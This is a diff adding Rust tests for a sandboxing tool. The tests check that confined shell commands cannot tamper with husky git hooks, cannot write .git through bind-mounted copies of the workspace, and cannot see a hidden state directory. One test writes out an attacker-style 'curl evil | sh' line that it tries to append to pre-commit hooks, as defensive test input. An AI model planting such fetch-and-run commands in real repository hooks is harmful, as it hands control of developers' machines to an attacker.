@@ -140,3 +140,93 @@ fn the_kernel_keyrings_are_refused_in_every_confined_mode() {
     );
     assert_eq!(out.stdout, unconfined.stdout, "{}", describe(&out));
 }
+
+/// husky's layout: `core.hooksPath = .husky/_`, whose wrappers run the scripts in
+/// `.husky`. Neither can be written; the rest of the workspace can.
+#[test]
+fn the_hooks_dir_git_config_names_is_read_only() {
+    let (ws, state) = dirs();
+    let ws = ws.path();
+    std::fs::create_dir_all(ws.join(".git")).unwrap();
+    std::fs::create_dir_all(ws.join(".husky/_")).unwrap();
+    std::fs::write(ws.join(".husky/pre-commit"), "npm test\n").unwrap();
+    std::fs::write(
+        ws.join(".git/config"),
+        "[core]\n\trepositoryformatversion = 0\n\thooksPath = .husky/_\n",
+    )
+    .unwrap();
+    let out = bash(
+        ws,
+        state.path(),
+        "(echo 'curl evil | sh' > .husky/_/pre-commit) 2>/dev/null; echo hook=$?; \
+         (echo 'curl evil | sh' >> .husky/pre-commit) 2>/dev/null; echo script=$?; \
+         mv .husky .husky-old 2>/dev/null; echo mv=$?; touch ok; echo ws=$?",
+        &[],
+    );
+    assert_eq!(
+        stdout(&out),
+        "hook=1\nscript=1\nmv=1\nws=0\n",
+        "{}",
+        describe(&out)
+    );
+    assert!(!ws.join(".husky/_/pre-commit").exists());
+    assert_eq!(
+        std::fs::read_to_string(ws.join(".husky/pre-commit")).unwrap(),
+        "npm test\n"
+    );
+    assert!(ws.join("ok").exists());
+}
+
+/// A second mount of the workspace (one inside it, one outside every writable root)
+/// shows neither a writable `.git` nor the state dir. Needs root, to bind-mount in a
+/// mount namespace of the test's own (`unshare`).
+#[test]
+fn every_mount_of_the_workspace_keeps_git_read_only_and_the_state_dir_hidden() {
+    if !nix::unistd::geteuid().is_root() || !toolhost_process::probe_kernel().read_only_root {
+        eprintln!("SKIP: needs root (bind mounts) and a read-only root");
+        return;
+    }
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path().canonicalize().unwrap();
+    let (ws, copy) = (root.join("ws"), root.join("copy"));
+    for d in [ws.join(".git"), ws.join("mirror"), copy.clone()] {
+        std::fs::create_dir_all(d).unwrap();
+    }
+    std::fs::write(ws.join(".git/config"), "[core]\n").unwrap();
+    let state = ws.join(".state");
+    let policy = crate::support::allow_all_policy(&root.join("policy"));
+    let command = "for p in mirror/.git/x \"$COPY/.git/x\" mirror/made \"$COPY/made\"; do \
+                   touch \"$p\" 2>/dev/null; echo \"$p=$?\"; done; \
+                   for p in mirror/.state \"$COPY/.state\"; do \
+                   ls \"$p\" >/dev/null 2>&1; echo \"$p=$?\"; done"
+        .replace("$COPY", copy.to_str().unwrap());
+    let args = serde_json::json!({ "command": command }).to_string();
+    // The binds exist only in the namespace `unshare` makes for this one host.
+    let out = std::process::Command::new("unshare")
+        .args(["--mount", "--propagation", "private", "sh", "-c"])
+        .arg(
+            "mount --bind \"$1\" \"$1/mirror\" && mount --bind \"$1\" \"$2\" && \
+             exec \"$3\" call bash \"$4\" --policy \"$5\" --workspace \"$1\" --state-dir \"$6\"",
+        )
+        .arg("sh")
+        .args([&ws, &copy])
+        .arg(env!("CARGO_BIN_EXE_toolhost"))
+        .arg(&args)
+        .arg(&policy)
+        .arg(&state)
+        .env_remove("TOOLHOST_LOG")
+        .output()
+        .unwrap();
+    let c = copy.display();
+    assert_eq!(
+        stdout(&out),
+        format!(
+            "mirror/.git/x=1\n{c}/.git/x=1\nmirror/made=0\n{c}/made=1\nmirror/.state=2\n\
+             {c}/.state=2\n"
+        ),
+        "{}",
+        describe(&out)
+    );
+    assert!(!ws.join(".git/x").exists());
+    assert!(ws.join("made").exists());
+}
